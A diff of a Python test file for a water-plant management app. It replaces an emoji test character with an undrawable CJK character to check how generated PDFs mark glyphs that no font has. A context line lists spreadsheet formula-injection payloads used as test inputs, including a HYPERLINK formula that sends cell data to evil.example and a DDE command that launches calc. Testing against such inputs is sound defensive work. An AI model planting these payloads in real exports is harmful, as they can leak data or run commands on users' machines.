@@ -48,7 +48,7 @@ from tests.issues.conftest import LEADER, Plant, _org_only, clock, org_db, plant
 from tests.org_helpers import actor, person, unit
 from tests.pdf_checks import assert_all_fonts_embedded, pdf_text
 
-EMOJI = "💧"
+UNDRAWN = "\U00020000"  # 𠀀 (CJK Extension B): no font of the chain draws it (emoji are drawn by Symbola)
 HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点此查看\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]  # fmt: skip
 
@@ -128,7 +128,7 @@ def test_the_helpers_themselves() -> None:
 def _marked(pdf: bytes, *expected: str) -> str:
     assert_all_fonts_embedded(pdf)
     text = "".join(pdf_text(pdf)).replace("\n", "")
-    assert EMOJI not in text
+    assert UNDRAWN not in text
     for piece in expected:
         assert piece in text, piece
     return text
@@ -139,18 +139,18 @@ def test_every_way_of_drawing_text_marks_what_no_font_has(caplog: pytest.LogCapt
     out = io.BytesIO()
     canvas = Canvas(out, pagesize=A4, initialFontName=CJK)
     canvas.setFont(CJK, 12)
-    canvas.drawString(40, 800, f"drawString 泵房漏水{EMOJI}")
-    canvas.drawCentredString(300, 780, f"centred 泵房漏水{EMOJI}")
-    canvas.drawRightString(550, 760, f"right 泵房漏水{EMOJI}")
+    canvas.drawString(40, 800, f"drawString 泵房漏水{UNDRAWN}")
+    canvas.drawCentredString(300, 780, f"centred 泵房漏水{UNDRAWN}")
+    canvas.drawRightString(550, 760, f"right 泵房漏水{UNDRAWN}")
     text = canvas.beginText(40, 740)
     text.setFont(CJK, 12)
-    text.textLine(f"textLine 泵房漏水{EMOJI}")
+    text.textLine(f"textLine 泵房漏水{UNDRAWN}")
     canvas.drawText(text)
-    assert canvas.stringWidth(f"漏{EMOJI}", CJK, 12) == canvas.stringWidth(f"漏{MARK}", CJK, 12)
+    assert canvas.stringWidth(f"漏{UNDRAWN}", CJK, 12) == canvas.stringWidth(f"漏{MARK}", CJK, 12)
     canvas.save()
     paragraph = io.BytesIO()
     SimpleDocTemplate(paragraph).build(
-        [Paragraph(f"paragraph 泵房漏水{EMOJI}", style())], canvasmaker=numbered_canvas()
+        [Paragraph(f"paragraph 泵房漏水{UNDRAWN}", style())], canvasmaker=numbered_canvas()
     )
     for pdf in (out.getvalue(), paragraph.getvalue()):
         text = _marked(pdf, f"泵房漏水{MARK}")
@@ -158,15 +158,15 @@ def test_every_way_of_drawing_text_marks_what_no_font_has(caplog: pytest.LogCapt
 
 
 def test_the_handover_sheet_the_hazard_ledger_and_the_held_register(plant: Plant) -> None:  # noqa: F811 (the fixture)
-    plant.report(title=f"泵房漏水{EMOJI}", category="hazard",
-                 hazard=HazardDraft(HazardGrade.GENERAL, responsible_id=plant.people["DH0008"], measures=f"堵漏{EMOJI}",
+    plant.report(title=f"泵房漏水{UNDRAWN}", category="hazard",
+                 hazard=HazardDraft(HazardGrade.GENERAL, responsible_id=plant.people["DH0008"], measures=f"堵漏{UNDRAWN}",
                                     deadline=dt.date(2026, 3, 10)))  # fmt: skip
     svc = plant.service
     _marked(handover_pdf(svc.handover(plant.units["DH"]), svc.calendar(), plant.names[LEADER]), f"泵房漏水{MARK}")
     rows = svc.hazard_ledger(plant.units["DH"])
-    _marked(ledger_pdf(rows, f"台账{EMOJI}", "打印日期", svc.calendar()), f"泵房漏水{MARK}", f"台账{MARK}")
-    held = plant.report(title=f"围墙外排水沟堵塞{EMOJI}").id
-    svc.act(plant.actor(LEADER), held, Action.HOLD, f"需厂级立项{EMOJI}")
+    _marked(ledger_pdf(rows, f"台账{UNDRAWN}", "打印日期", svc.calendar()), f"泵房漏水{MARK}", f"台账{MARK}")
+    held = plant.report(title=f"围墙外排水沟堵塞{UNDRAWN}").id
+    svc.act(plant.actor(LEADER), held, Action.HOLD, f"需厂级立项{UNDRAWN}")
     register = register_pdf(
         svc.held_register(plant.units["DH"]), "挂账问题台账", "截至", svc.calendar(), dt.date.today()
     )
@@ -177,10 +177,10 @@ def test_the_organisation_prints(services: Services) -> None:
     org = services.org
     who = actor(services)
     grid = unit(services, "DH-W-01")
-    org.people_edit.add_person(who, PersonFields(f"王{EMOJI}", "X9", grid.id, PartyStatus.MASSES))
+    org.people_edit.add_person(who, PersonFields(f"王{UNDRAWN}", "X9", grid.id, PartyStatus.MASSES))
     _marked(org_chart_pdf(chart_data(org, grid.id)), f"王{MARK}")
     _marked(coverage_pdf(org.guardianship.coverage(unit(services, "DH").id)), f"王{MARK}")
-    area = org.areas.add_area(who, AreaFields(grid.id, f"泵房{EMOJI}", duties=f"防漏{EMOJI}"))
+    area = org.areas.add_area(who, AreaFields(grid.id, f"泵房{UNDRAWN}", duties=f"防漏{UNDRAWN}"))
     _marked(placard_pdf([org.areas.placard(area)]), f"泵房{MARK}")
 
 
@@ -188,17 +188,17 @@ def test_the_inspection_prints(services: Services, ins: InspectionService, dosin
     leader = person(services, "DH0001")
     fields = services.org.people_edit.fields(leader.id)
     services.org.people_edit.update_person(
-        actor(services), leader.id, dataclasses.replace(fields, name=f"熊德明{EMOJI}")
+        actor(services), leader.id, dataclasses.replace(fields, name=f"熊德明{UNDRAWN}")
     )
     card = Source(dosing_card)
     _marked(ins.prints.board(card, "A2"), f"熊德明{MARK}")
     _marked(ins.prints.board_tiles(card, "A1", "A3", 10), f"熊德明{MARK}")
     _marked(ins.prints.pocket_cards(Source(document_of(ins, dosing, "risk_card")), copies=2), f"熊德明{MARK}")
     content = ins.prints.content(card)
-    items = (dataclasses.replace(content.items[0], content=f"检查泵房漏水{EMOJI}"), *content.items[1:])
+    items = (dataclasses.replace(content.items[0], content=f"检查泵房漏水{UNDRAWN}"), *content.items[1:])
     _marked(build_checklist(dataclasses.replace(content, items=items), ChecklistOptions()), f"泵房漏水{MARK}")
     handbook = ins.prints.content(Source(document_of(ins, dosing, "handbook")))
-    _marked(build_document(dataclasses.replace(handbook, title=f"手册{EMOJI}")), f"手册{MARK}")
+    _marked(build_document(dataclasses.replace(handbook, title=f"手册{UNDRAWN}")), f"手册{MARK}")
 
 
 def test_the_score_postings(services: Services) -> None:
@@ -206,7 +206,7 @@ def test_the_score_postings(services: Services) -> None:
     leader = person(services, "DH0001")
     who = Actor(station_id=services.db.station.id, person_id=leader.id, name=leader.name)
     quarter = Period.of(PeriodKind.QUARTER, dt.date.today()).previous()
-    posting = gather(services.scoring, who, "star", quarter, root.id, f"东湖水厂{EMOJI}")
+    posting = gather(services.scoring, who, "star", quarter, root.id, f"东湖水厂{UNDRAWN}")
     _marked(points_table_pdf(posting), f"东湖水厂{MARK}")
     _marked(star_board_pdf(posting), f"东湖水厂{MARK}")
 
